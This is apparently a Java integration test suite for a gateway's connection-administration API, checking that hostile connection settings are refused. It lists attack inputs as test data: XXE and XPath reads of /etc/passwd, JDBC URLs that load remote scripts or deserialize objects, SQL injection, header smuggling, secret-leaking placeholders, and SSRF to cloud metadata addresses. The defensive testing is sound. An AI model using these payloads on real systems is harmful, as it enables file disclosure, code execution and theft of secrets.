package org.hutong.gateway.connection;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.time.Duration;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.awaitility.Awaitility;
import org.hutong.gateway.landscape.Client;
import org.hutong.gateway.landscape.Gateway;
import org.hutong.gateway.landscape.Landscape;
import org.hutong.gateway.landscape.Requests;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Somebody who may write connections tries to get out of them: into Camel, the gateway's own secrets and files, the machine's own
 * network. What he types is refused with a problem that names the place, or leads nowhere and says so.
 */
class HostileAdministratorIT {

    private static final String DATABASE = Landscape.get().freshDatabase();
    private static final String HOLDER = "\"holder\":{\"kind\":\"111\",\"code\":\"" + Requests.JIANGXI_DRIVER + "\"}";
    private static final AtomicInteger NUMBER = new AtomicInteger();

    private static Gateway gateway = Gateway.shared();
    private static Client client = new Client(gateway);

    /** No target is allowed beyond the ordinary ones: this machine is not among them. */
    @BeforeAll
    static void aGatewayAsItIsInProduction() throws IOException {
        gateway = Gateway.start(Map.of(
                "hutong.database.url",
                DATABASE,
                "hutong.connections.files",
                "",
                "hutong.connections.targets",
                "",
                // A pool of database sessions tries for two seconds before it says why it has none.
                "hutong.connections.limits.deadline",
                "PT5S",
                "hutong.connections.secret-files",
                secrets()));
        client = new Client(gateway);
    }

    @AfterAll
    static void stop() {
        gateway.close();
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
        # other Camel components, and text that Camel reads
        exec                  | {}                                                                       | /connection
        bean:runtime          | {}                                                                       | /connection
        http?bridgeEndpoint=1 | {}                                                                       | /connection
        ../http               | {}                                                                       | /connection
        groovy                | {}                                                                       | /connection
        http | {"url":"http://a.example/{{hutong.database.password}}"}                                    | /connection/parameters/url
        http | {"url":"http://a.example/${env:PATH}"}                                                     | /connection/parameters/url
        http | {"url":"http://{holder.code}.example/"}                                                    | /connection/parameters/url
        http | {"url":"http://user:secret@a.example/"}                                                    | /connection/parameters/url
        http | {"url":"file:///etc/passwd"}                                                               | /connection/parameters/url
        http | {"url":"ftp://a.example/"}                                                                 | /connection/parameters/url
        http | {"url":"http://a.example/","bridgeEndpoint":"true"}                                        | /connection/parameters/bridgeEndpoint
        http | {"url":"http://a.example/","headers":{"CamelHttpUri":"http://b.example/"}}                 | /connection/parameters/headers
        http | {"url":"http://a.example/","headers":{"Host":"b.example"}}                                 | /connection/parameters/headers
        http | {"url":"http://a.example/","headers":{"Transfer-Encoding":"chunked"}}                      | /connection/parameters/headers
        http | {"url":"http://a.example/","headers":{"X-A":"1\\r\\nHost: b.example"}}                     | /connection/parameters/headers
        http | {"url":"http://a.example/","method":"POST","body":{"x":"{holder.class.name}"}}             | /connection/parameters/body
        http | {"url":"http://a.example/","method":"DELETE"}                                              | /connection/parameters/method
        soap | {"url":"http://a.example/","request":"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"} | /connection/parameters/request
        soap | {"url":"http://a.example/","request":"<a/>","record":"//a[document('file:///etc/passwd')]"} | /connection/parameters/record
        jdbc | {"url":"jdbc:postgresql://a.example/x?socketFactory=java.lang.ProcessBuilder","username":"u","password":{"text":"p"},"query":"SELECT 1 WHERE :holderCode = ''"} | /connection/parameters/url
        jdbc | {"url":"jdbc:mysql://a.example/x?autoDeserialize=true","username":"u","password":{"text":"p"},"query":"SELECT 1 WHERE :holderCode = ''"} | /connection/parameters/url
        jdbc | {"url":"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://b.example/'","username":"u","password":{"text":"p"},"query":"SELECT 1 WHERE :holderCode = ''"} | /connection/parameters/url
        jdbc | {"url":"jdbc:postgresql://a.example/x","username":"u","password":{"text":"p"},"query":"SELECT 1 WHERE :holderCode = ''; DROP TABLE x"} | /connection/parameters/query
        jdbc | {"url":"jdbc:postgresql://a.example/x","username":"u","password":{"text":"p"},"query":"UPDATE x SET y = :holderCode"} | /connection/parameters/query
        jdbc | {"url":"jdbc:postgresql://a.example/x","username":"u","password":{"text":"p"},"query":"SELECT 1 WHERE x = :password AND y = :holderCode"} | /connection/parameters/query
        queue | {"url":"vm://localhost","username":"u","password":{"text":"p"},"requestQueue":"q","body":{}} | /connection/parameters/url
        queue | {"url":"failover:(tcp://a.example:1)","username":"u","password":{"text":"p"},"requestQueue":"q","body":{}} | /connection/parameters/url
        queue | {"url":"tcp://a.example:1?protocolManagerFactoryStr=x","username":"u","password":{"text":"p"},"requestQueue":"q","body":{}} | /connection/parameters/url
        queue | {"url":"tcp://a.example:1","username":"u","password":{"text":"p"},"requestQueue":"q?x=y","body":{}} | /connection/parameters/requestQueue
        file | {"location":{"sftp":{"host":"a.example/../b","username":"u","password":{"text":"p"},"hostKeys":["SHA256:4zkTi501649fvkbnmgX1eyjd5942Xmh/qMZPQ+8qoyA"]}},"pattern":"*.csv","columns":{"a":"a"},"holder":["a"]} | /connection/parameters/location/sftp/host
        file | {"location":{"sftp":{"host":"a.example","username":"u","password":{"text":"p"},"hostKeys":["SHA256:4zkTi501649fvkbnmgX1eyjd5942Xmh/qMZPQ+8qoyA"]}},"pattern":"../*.csv","columns":{"a":"a"},"holder":["a"]} | /connection/parameters/pattern
        # secrets that are not set aside for connections
        http | {"url":"http://a.example/","authentication":{"scheme":"basic","username":"u","password":{"env":"HUTONG_DATABASE_PASSWORD"}}} | /connection/parameters/authentication/password
        http | {"url":"http://a.example/","authentication":{"scheme":"basic","username":"u","password":{"env":"PATH"}}} | /connection/parameters/authentication/password
        http | {"url":"http://a.example/","authentication":{"scheme":"basic","username":"u","password":{"file":"/etc/passwd"}}} | /connection/parameters/authentication/password
        http | {"url":"http://a.example/","authentication":{"scheme":"basic","username":"u","password":{"file":"/proc/self/environ"}}} | /connection/parameters/authentication/password
        http | {"url":"http://a.example/","authentication":{"scheme":"basic","username":"u","password":{"sealed":"k1:AAAA"}}} | /connection/parameters/authentication/password
        """)
    void whatLeadsOutOfAConnectionIsRefusedAtItsPlace(String connector, String parameters, String pointer) {
        var refused = create(connector, parameters, "\"$\"");

        assertProblem(refused, 400, "invalid-request");
        assertThat(refused.json()
                        .get("errors")
                        .valueStream()
                        .map(error -> error.get("pointer").stringValue()))
                .as(refused.http().body())
                .anyMatch(place -> place.startsWith(pointer));
        assertThat(refused.http().body()).doesNotContain("Exception", "org.hutong", "at java.");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
        "{ "                                              | /connection/mapping
        ""                                                | /connection/mapping
        {"use":"no-such-mapping"}                         | /connection
        {"use":"a","java":"x"}                            | /connection/mapping
        ["$"]                                             | /connection/mapping
        "{ \\"a\\": $code(\\"no-such-table\\", x) }"      | /connection
        """)
    void aMappingThatIsNoneIsRefusedAtItsPlace(String mapping, String pointer) {
        var refused = create("http", "{\"url\":\"http://a.example/\"}", mapping);

        assertProblem(refused, 400, "invalid-request");
        assertThat(refused.json().at("/errors/0/pointer").stringValue()).startsWith(pointer);
    }

    @ParameterizedTest
    @CsvSource({
        "deadline,PT1H",
        "deadline,PT0S",
        "concurrency,0",
        "concurrency,100000",
        "retries,99",
        "failurePercent,0"
    })
    void limitsThatDoNotGuardAreRefused(String name, String value) {
        var written = value.startsWith("P") ? "\"" + value + "\"" : value;
        var refused = client.administer(
                "POST",
                "/connections",
                "{\"reason\":\"a test\",\"connection\":"
                        + content("limits-" + name, "http", "{\"url\":\"http://a.example/\"}", "\"$\"")
                                .replaceFirst("\\}$", ",\"limits\":{\"" + name + "\":" + written + "}}")
                        + "}");

        assertProblem(refused, 400, "invalid-request");
    }

    @ParameterizedTest(name = "{0} to {1}")
    @CsvSource({
        "http,169.254.169.254",
        "http,127.0.0.1",
        "http,localhost",
        "http,[::1]",
        "http,[::ffff:127.0.0.1]",
        "http,0.0.0.0",
        "http,[fe80::1]",
        "http,100.100.100.200",
        "soap,169.254.169.254",
        "soap,127.0.0.1",
        "soap,localhost",
        "jdbc,169.254.169.254",
        "jdbc,127.0.0.1",
        "jdbc,localhost",
        "queue,169.254.169.254",
        "queue,127.0.0.1",
        "queue,localhost",
        "file,169.254.169.254",
        "file,127.0.0.1",
        "file,localhost",
    })
    void noConnectionReachesTheMachineItselfOrItsMetadata(String connector, String host) {
        var id = "reaches-" + NUMBER.incrementAndGet();
        var created = client.administer(
                "POST",
                "/connections",
                "{\"reason\":\"a test\",\"connection\":" + content(id, connector, leadingTo(connector, host), "\"$\"")
                        + "}");
        assertThat(created.status()).as(created.http().body()).isEqualTo(201);

        var tested = client.administer("POST", "/connections/" + id + "/test", "{\"version\":1," + HOLDER + "}");

        assertThat(tested.status()).as(tested.http().body()).isEqualTo(200);
        assertThat(tested.json().get("passed").booleanValue()).isFalse();
        assertThat(tested.json().get("reason").stringValue()).isEqualTo("the target is not allowed");
        assertProblem(
                client.administer("POST", "/connections/" + id + "/activate", "{\"version\":1}"), 409, "not-tested");
    }

    /** Nobody sees a secret again; nor does he get it sent to a host of his. */
    @Test
    void aSecretDoesNotFollowAConnectionToAnotherHost() {
        var parameters =
                "{\"url\":\"http://a.example/\",\"authentication\":{\"scheme\":\"basic\",\"username\":\"u\",\"password\":%s}}";
        var id = "keeps-its-secret";
        var written = content(id, "http", parameters.formatted("{\"text\":\"secret\"}"), "\"$\"");
        assertThat(client.administer("POST", "/connections", "{\"reason\":\"a test\",\"connection\":" + written + "}")
                        .status())
                .isEqualTo(201);
        var moved =
                content(id, "http", parameters.formatted("{\"set\":true}").replace("a.example", "b.example"), "\"$\"");

        var refused = client.administer(
                "PUT", "/connections/" + id, "{\"reason\":\"a test\",\"version\":1,\"connection\":" + moved + "}");

        assertProblem(refused, 400, "invalid-request");
        assertThat(refused.json().at("/errors/0/pointer").stringValue())
                .isEqualTo("/connection/parameters/authentication/password");
    }

    @Test
    void aRedirectIsNotFollowed() throws IOException {
        var followed = new AtomicInteger();
        var inside = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        inside.createContext("/", exchange -> {
            followed.incrementAndGet();
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        var redirecting = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        redirecting.createContext("/", exchange -> {
            exchange.getResponseHeaders()
                    .set("Location", "http://127.0.0.1:" + inside.getAddress().getPort() + "/latest/meta-data");
            exchange.sendResponseHeaders(302, -1);
            exchange.close();
        });
        inside.start();
        redirecting.start();
        try (var permitting = Gateway.start(
                Map.of("hutong.database.url", Landscape.get().freshDatabase(), "hutong.connections.files", ""))) {
            var administrator = new Client(permitting);
            var url = "{\"url\":\"http://127.0.0.1:" + redirecting.getAddress().getPort() + "/\"}";
            administrator.administer(
                    "POST",
                    "/connections",
                    "{\"reason\":\"a test\",\"connection\":" + content("redirects", "http", url, "\"$\"") + "}");

            var tested =
                    administrator.administer("POST", "/connections/redirects/test", "{\"version\":1," + HOLDER + "}");

            assertThat(tested.json().get("passed").booleanValue()).isFalse();
            assertThat(followed).hasValue(0);
        } finally {
            inside.stop(0);
            redirecting.stop(0);
        }
    }

    /** A version whose secret is gone when it is activated cannot start: the one before serves on, and it is said why. */
    @Test
    void aVersionThatDoesNotStartLeavesTheOldOneServing() throws IOException {
        var file = java.nio.file.Path.of(secrets()).resolve("key-that-goes");
        Files.writeString(file, "the-source-s-own-key");
        var settings = Map.of(
                "hutong.database.url", Landscape.get().freshDatabase(),
                "hutong.connections.files", "",
                "hutong.connections.secret-files", secrets());
        try (var permitting = Gateway.start(settings)) {
            var administrator = new Client(permitting);
            var parameters =
                    "{\"url\":\"" + Landscape.get().troubled().url() + "/guarded\",\"method\":\"POST\",\"body\":{},"
                            + "\"authentication\":{\"scheme\":\"header\",\"name\":\"X-Api-Key\",\"value\":{\"file\":\""
                            + file + "\"}}}";
            var content = content("goes-on", "http", parameters, "\"$\"");
            var body = "{\"reason\":\"a test\",\"connection\":" + content;
            assertThat(administrator
                            .administer("POST", "/connections", body + "}")
                            .status())
                    .isEqualTo(201);
            for (int version = 1; version <= 2; version++) {
                var seen = "{\"version\":" + version;
                assertThat(administrator
                                .administer("POST", "/connections/goes-on/test", seen + "," + HOLDER + "}")
                                .json()
                                .get("passed")
                                .booleanValue())
                        .isTrue();
                if (version == 1) {
                    administrator.administer("POST", "/connections/goes-on/activate", seen + "}");
                    administrator.administer("PUT", "/connections/goes-on", body + ",\"version\":1}");
                }
            }
            Files.delete(file);

            var activated = administrator.administer("POST", "/connections/goes-on/activate", "{\"version\":2}");

            assertThat(activated.status()).isEqualTo(200);
            assertThat(activated.json().path("failure").asString(""))
                    .as(activated.http().body())
                    .contains("file that cannot be read");
            assertThat(administrator
                            .lookUp("zj-service-hall", Requests.with(request -> request.put("province", "65")))
                            .status())
                    .isEqualTo(200);

            Files.writeString(file, "the-source-s-own-key");
            administrator.administer("POST", "/connections/goes-on/activate", "{\"version\":2}");
            Awaitility.await()
                    .atMost(Duration.ofSeconds(10))
                    .until(() -> !administrator
                            .administer("GET", "/connections/goes-on", "")
                            .json()
                            .has("failure"));
        }
    }

    private static String secrets() {
        try {
            return Files.createDirectories(Landscape.get().directory().resolve("secrets"))
                    .toString();
        } catch (IOException failed) {
            throw new java.io.UncheckedIOException(failed);
        }
    }

    private static Client.Response create(String connector, String parameters, String mapping) {
        return client.administer(
                "POST",
                "/connections",
                "{\"reason\":\"a test\",\"connection\":"
                        + content("hostile-" + NUMBER.incrementAndGet(), connector, parameters, mapping) + "}");
    }

    private static String content(String id, String connector, String parameters, String mapping) {
        return "{\"id\":\"" + id + "\",\"name\":{\"zh\":\"示例系统\",\"en\":\"A sample system\"},\"province\":\"65\","
                + "\"type\":\"driving-licence\",\"connector\":\"" + connector + "\",\"parameters\":" + parameters
                + ",\"mapping\":" + mapping + "}";
    }

    private static String leadingTo(String connector, String host) {
        return switch (connector) {
            case "http" -> "{\"url\":\"http://" + host + "/latest/meta-data\"}";
            case "soap" -> "{\"url\":\"http://" + host + "/latest\",\"request\":\"<a>{holder.code}</a>\"}";
            case "jdbc" ->
                "{\"url\":\"jdbc:postgresql://" + host + ":5432/x\",\"username\":\"u\",\"password\":{\"text\":\"p\"},"
                        + "\"query\":\"SELECT 1 AS a WHERE :holderCode = ''\"}";
            case "queue" ->
                "{\"url\":\"tcp://" + host + ":61616\",\"username\":\"u\",\"password\":{\"text\":\"p\"},"
                        + "\"requestQueue\":\"q\",\"body\":{\"code\":\"{holder.code}\"}}";
            case "file" ->
                "{\"location\":{\"sftp\":{\"host\":\"" + host + "\",\"username\":\"u\",\"password\":{\"text\":\"p\"},"
                        + "\"hostKeys\":[\"SHA256:4zkTi501649fvkbnmgX1eyjd5942Xmh/qMZPQ+8qoyA\"]}},"
                        + "\"pattern\":\"*.csv\",\"columns\":{\"a\":\"a\"},\"holder\":[\"a\"]}";
            default -> throw new IllegalArgumentException(connector);
        };
    }

    private static void assertProblem(Client.Response response, int status, String slug) {
        assertThat(response.status()).as(response.http().body()).isEqualTo(status);
        assertThat(response.json().get("type").stringValue()).isEqualTo("urn:hutong:problem:" + slug);
    }
}
